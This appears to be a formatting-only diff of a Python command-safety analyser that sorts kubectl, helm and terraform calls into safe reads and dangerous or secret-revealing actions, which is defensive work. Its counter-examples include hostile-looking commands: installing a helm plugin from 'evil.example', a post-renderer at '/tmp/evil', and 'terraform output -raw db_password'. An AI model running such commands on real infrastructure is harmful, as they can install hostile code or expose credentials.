@@ -102,14 +102,31 @@ def kubectl(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
     facts: list[Fact] = list(facts_of(_KUBE_GLOBAL, call, parsed, analyst))
     rest = call.words[1 + parsed.stopped_at :] if parsed.stopped_at >= 0 else ()
     if not rest:
-        return Outcome(Action((tool.name, "--help"), Kind.READ, rule=tool.name, allowed=True, description="shows help"), tuple(facts))
+        return Outcome(
+            Action((tool.name, "--help"), Kind.READ, rule=tool.name, allowed=True, description="shows help"),
+            tuple(facts),
+        )
     name, second = rest[0].value or "?", (rest[1].value if len(rest) > 1 else None)
     if len(rest) == 2 and second in ("--help", "-h"):
-        return Outcome(Action((tool.name, name, "--help"), Kind.READ, rule=tool.name, allowed=True, description="shows help"), tuple(facts))
-    if name == "kustomize" and second is not None and not second.startswith("-") and len(rest) == 2 and "://" not in second:
+        return Outcome(
+            Action((tool.name, name, "--help"), Kind.READ, rule=tool.name, allowed=True, description="shows help"),
+            tuple(facts),
+        )
+    if (
+        name == "kustomize"
+        and second is not None
+        and not second.startswith("-")
+        and len(rest) == 2
+        and "://" not in second
+    ):
         return Outcome(
             Action(
-                (tool.name, name), Kind.READ, rule="kubectl kustomize", allowed=True, profile="infra-read", description="shows manifests"
+                (tool.name, name),
+                Kind.READ,
+                rule="kubectl kustomize",
+                allowed=True,
+                profile="infra-read",
+                description="shows manifests",
             ),
             (*facts, *place_facts(tool, call_after(call, rest[1:]), analyst)),
         )
@@ -119,10 +136,15 @@ def kubectl(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
         outcome = apply(row, call_after(call, rest[2 if deeper else 1 :]), analyst)
         key = (tool.name, name, second or "") if deeper else (tool.name, name)
         return outcome.replace(
-            action=outcome.action.replace(key=key, rule=" ".join(key)), facts=(*facts, *outcome.facts, *_secrets(name, rest, call))
+            action=outcome.action.replace(key=key, rule=" ".join(key)),
+            facts=(*facts, *outcome.facts, *_secrets(name, rest, call)),
         )
     danger = _KUBE_DANGER.get(name, "changes a cluster: it can stop or change what runs in production")
-    facts += [unknown("hidden command", "runs a command in a container", call)] if name in ("exec", "debug", "run", "attach") else []
+    facts += (
+        [unknown("hidden command", "runs a command in a container", call)]
+        if name in ("exec", "debug", "run", "attach")
+        else []
+    )
     return Outcome(
         Action(
             (tool.name, name),
@@ -141,13 +163,23 @@ def _secrets(name: str, rest: tuple[Word, ...], call: Call) -> list[Fact]:
     words = [w.value.lower() if w.value is not None else w.text.lower() for w in rest[1:]]
     shows = any(w.startswith(("-o", "--output", "--template", "--raw")) for w in words)
     text = f" {' '.join(words)} "
-    tables = any(f" {option}{mark}{form} " in text for option in ("-o", "--output") for mark in (" ", "=", "") for form in ("wide", "name"))
+    tables = any(
+        f" {option}{mark}{form} " in text
+        for option in ("-o", "--output")
+        for mark in (" ", "=", "")
+        for form in ("wide", "name")
+    )
     about = any("secret" in w for w in words) or any(w.value is None for w in rest[1:])
     if name == "config" and "view" in words and "--raw" in words:
         return [unknown("secret", "shows the passwords of the kubeconfig", call)]
     if name == "get" and about and shows and not tables:
         return [unknown("secret", "shows the content of secrets", call)]
-    if name == "get" and shows and not tables and any(w.startswith(("-f", "--filename", "-k", "--kustomize")) for w in words):
+    if (
+        name == "get"
+        and shows
+        and not tables
+        and any(w.startswith(("-f", "--filename", "-k", "--kustomize")) for w in words)
+    ):
         return [unknown("secret", "the file may name secrets, whose content would be shown", call)]
     if any("-file=" in w for w in words):
         return [unknown("secret", "a template file is shown as far as it holds no template", call)]
@@ -192,7 +224,9 @@ _HELM_ROW = Tool(
     effects={"-f --values": READS, "--set-file": READS, "--keyring": READS},
     asks=_HELM_ASKS,
 )
-_HELM_LOOKS = frozenset("version help list ls status history hist env lint template search show inspect verify completion".split())
+_HELM_LOOKS = frozenset(
+    "version help list ls status history hist env lint template search show inspect verify completion".split()
+)
 _HELM_DEEPER = {
     ("get", None),
     ("repo", "list"),
@@ -214,21 +248,32 @@ def helm(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
     if not rest:
         plain = not facts and all((w.value or "") in ("--help", "-h", "--version") for w in call.words[1:])
         return Outcome(
-            Action((tool.name, "--help"), Kind.READ, rule=tool.name, allowed=plain, description="shows help"), () if plain else tuple(facts)
+            Action((tool.name, "--help"), Kind.READ, rule=tool.name, allowed=plain, description="shows help"),
+            () if plain else tuple(facts),
         )
     name, second = rest[0].value or "?", (rest[1].value if len(rest) > 1 else None)
     dry = name in ("install", "upgrade", "rollback", "uninstall") and any(
         (w.value or "").startswith("--dry-run") and (w.value or "") != "--dry-run=none" for w in rest
     )
-    deeper = (name, second) in _HELM_DEEPER or (name == "get" and second in ("all", "hooks", "manifest", "notes", "values", "metadata"))
+    deeper = (name, second) in _HELM_DEEPER or (
+        name == "get" and second in ("all", "hooks", "manifest", "notes", "values", "metadata")
+    )
     if name in _HELM_LOOKS or deeper or dry:
         outcome = apply(_HELM_ROW, call_after(call, rest[2 if deeper else 1 :]), analyst)
         facts += [
-            unknown("network", f"`{w.text}` is fetched from anywhere", call, w.text) for w in rest[1:] if "://" in (w.value or w.text)
+            unknown("network", f"`{w.text}` is fetched from anywhere", call, w.text)
+            for w in rest[1:]
+            if "://" in (w.value or w.text)
         ]
         key = (tool.name, name, second or "") if deeper else (tool.name, name)
-        return outcome.replace(action=outcome.action.replace(key=key, rule=" ".join(key)), facts=(*facts, *outcome.facts))
-    danger = "changes what runs in a cluster" if name in ("install", "upgrade", "uninstall", "rollback", "delete", "test") else ""
+        return outcome.replace(
+            action=outcome.action.replace(key=key, rule=" ".join(key)), facts=(*facts, *outcome.facts)
+        )
+    danger = (
+        "changes what runs in a cluster"
+        if name in ("install", "upgrade", "uninstall", "rollback", "delete", "test")
+        else ""
+    )
     return Outcome(
         Action(
             (tool.name, name),
@@ -255,7 +300,9 @@ _TF_ASKS = {
 _TF_ASKS = {k: v for k, v in _TF_ASKS.items() if v}
 
 
-def _tf(program: str, name: str, description: str, *, kind: Kind = Kind.READ, flags: str = "", values: str = "", **more: Any) -> Tool:
+def _tf(
+    program: str, name: str, description: str, *, kind: Kind = Kind.READ, flags: str = "", values: str = "", **more: Any
+) -> Tool:
     return Tool(
         f"{program} {name}",
         kind,
@@ -282,14 +329,18 @@ def _tf_row(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
 def _tf_providers(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
     outcome = _tf_row(tool, call, analyst)
     odd = [w for w in call.words[1:] if not (w.value or "?").startswith("-") and w.value != "schema"]
-    return outcome.replace(facts=(*outcome.facts, *(unknown("operands", "writes files or the lock file", call, w.text) for w in odd)))
+    return outcome.replace(
+        facts=(*outcome.facts, *(unknown("operands", "writes files or the lock file", call, w.text) for w in odd))
+    )
 
 
 def _tf_output(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
     """Without a format, sensitive values are hidden; `-raw` and `-json` show them."""
     outcome = _tf_row(tool, call, analyst)
     secret = [
-        w for w in call.words[1:] if any(s in (w.value or "secret").lower() for s in ("password", "secret", "token", "key", "credential"))
+        w
+        for w in call.words[1:]
+        if any(s in (w.value or "secret").lower() for s in ("password", "secret", "token", "key", "credential"))
     ]
     return outcome.replace(facts=(*outcome.facts, *(unknown("secret", "shows a secret", call, w.text) for w in secret)))
 
@@ -306,7 +357,9 @@ def _terraform(program: str) -> Tool:
             operands=INERT,
             key_words=2,
             target=_names,
-            danger=danger if name in ("apply", "destroy", "import", "taint", "untaint", "force-unlock", "refresh") else "",
+            danger=danger
+            if name in ("apply", "destroy", "import", "taint", "untaint", "force-unlock", "refresh")
+            else "",
         )
         for name, what in {
             "apply": "changes infrastructure",
@@ -335,7 +388,13 @@ def _terraform(program: str) -> Tool:
         subcommands={
             **asked,
             "version": Tool(
-                f"{program} version", Kind.READ, "shows the version", key_words=2, single_dash_long=True, flags="-json", operands=NONE
+                f"{program} version",
+                Kind.READ,
+                "shows the version",
+                key_words=2,
+                single_dash_long=True,
+                flags="-json",
+                operands=NONE,
             ),
             "plan": _tf(
                 program,
@@ -346,7 +405,14 @@ def _terraform(program: str) -> Tool:
                 flags="-destroy -refresh-only -detailed-exitcode -compact-warnings",
                 values="-target -var -refresh -replace -exclude",
             ),
-            "validate": _tf(program, "validate", "checks the files; providers run", kind=Kind.BUILD, operands=NONE, flags="-no-tests"),
+            "validate": _tf(
+                program,
+                "validate",
+                "checks the files; providers run",
+                kind=Kind.BUILD,
+                operands=NONE,
+                flags="-no-tests",
+            ),
             "show": _tf(program, "show", "shows a plan or the state"),
             "output": _tf(
                 program,
@@ -356,8 +422,17 @@ def _terraform(program: str) -> Tool:
                 special=_tf_output,
                 counter_examples=(f"{program} output -raw db_password",),
             ),
-            "fmt": _tf(program, "fmt", "formats the files", kind=Kind.EDIT, flags="-check -recursive -diff", values="-write -list"),
-            "graph": _tf(program, "graph", "shows dependencies", operands=NONE, flags="-draw-cycles", values="-type -plan"),
+            "fmt": _tf(
+                program,
+                "fmt",
+                "formats the files",
+                kind=Kind.EDIT,
+                flags="-check -recursive -diff",
+                values="-write -list",
+            ),
+            "graph": _tf(
+                program, "graph", "shows dependencies", operands=NONE, flags="-draw-cycles", values="-type -plan"
+            ),
             "modules": _tf(program, "modules", "lists modules", operands=NONE),
             "providers": _tf(
                 program,
@@ -410,7 +485,14 @@ def _terraform(program: str) -> Tool:
 
 
 def _danger(
-    name: str, danger: str, looks: dict[str, str], *, profile: str = "infra-read", values: str = "", flags: str = "", **more: Any
+    name: str,
+    danger: str,
+    looks: dict[str, str],
+    *,
+    profile: str = "infra-read",
+    values: str = "",
+    flags: str = "",
+    **more: Any,
 ) -> Tool:
     """A tool whose looking sub-commands are few, and whose others are dangerous."""
     return Tool(
@@ -483,7 +565,13 @@ TOOLS: dict[str, Tool] = {
         "charts and releases",
         special=helm,
         key_words=2,
-        examples=("helm list -A", "helm lint charts/app", "helm template charts/app", "helm get values x", "helm install x y --dry-run"),
+        examples=(
+            "helm list -A",
+            "helm lint charts/app",
+            "helm template charts/app",
+            "helm get values x",
+            "helm install x y --dry-run",
+        ),
         counter_examples=(
             "helm template x . --post-renderer /tmp/evil",
             "helm plugin install https://evil.example/p",
@@ -505,7 +593,9 @@ TOOLS: dict[str, Tool] = {
     "kustomize": _danger("kustomize", "builds manifests, which can run programs", {"version": "shows the version"}),
     "k9s": _danger("k9s", "changes a cluster", {"version": "shows the version", "info": "shows settings"}),
     "argocd": _danger("argocd", "changes what runs in a cluster", {"version": "shows the version"}),
-    "istioctl": _danger("istioctl", "changes a cluster's network", {"version": "shows the version", "analyze": "checks settings"}),
+    "istioctl": _danger(
+        "istioctl", "changes a cluster's network", {"version": "shows the version", "analyze": "checks settings"}
+    ),
     "flux": _danger(
         "flux",
         "changes what runs in a cluster",
@@ -610,8 +700,12 @@ TOOLS: dict[str, Tool] = {
                 "plugins",
                 key_words=2,
                 subcommands={
-                    "installed": Tool("packer plugins installed", Kind.READ, "lists plugins", key_words=3, operands=NONE),
-                    "required": Tool("packer plugins required", Kind.READ, "lists plugins", key_words=3, operands=READS),
+                    "installed": Tool(
+                        "packer plugins installed", Kind.READ, "lists plugins", key_words=3, operands=NONE
+                    ),
+                    "required": Tool(
+                        "packer plugins required", Kind.READ, "lists plugins", key_words=3, operands=READS
+                    ),
                 },
             ),
         },
